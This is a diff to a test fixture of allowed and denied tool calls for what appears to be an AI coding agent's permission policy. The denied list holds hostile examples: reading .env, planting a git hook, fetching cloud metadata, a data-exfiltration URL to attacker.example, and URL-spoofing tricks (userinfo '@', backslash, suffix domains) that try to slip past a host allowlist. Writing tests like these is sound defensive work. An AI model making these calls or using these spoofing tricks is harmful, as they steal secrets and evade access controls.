@@ -53,6 +53,7 @@ CLAUDE_ALLOWED = [
     ("TodoWrite", {"todos": []}),
     ("Agent", {"description": "d", "prompt": "p"}),
     ("WebFetch", {"url": "https://docs.python.org/3/library/json.html"}),
+    ("WebFetch", {"url": "https://requests.readthedocs.io/en/latest/"}),
     ("WebSearch", {"query": "python json"}),
 ]
 CLAUDE_DENIED = [
@@ -70,6 +71,11 @@ CLAUDE_DENIED = [
     ("Bash", {"command": "cat .env"}),
     ("Bash", {"command": "echo x > .git/hooks/pre-commit"}),
     ("WebFetch", {"url": "http://169.254.169.254/latest/meta-data"}),
+    ("WebFetch", {"url": "https://attacker.example/collect?d=x"}),
+    ("WebFetch", {"url": "http://docs.python.org/3/"}),  # listed host, but not over TLS
+    ("WebFetch", {"url": "https://docs.python.org@attacker.example/"}),
+    ("WebFetch", {"url": "https://attacker.example\\@docs.python.org/"}),
+    ("WebFetch", {"url": "https://docs.python.org.attacker.example/"}),
     ("Unknown", {}),
 ]
 
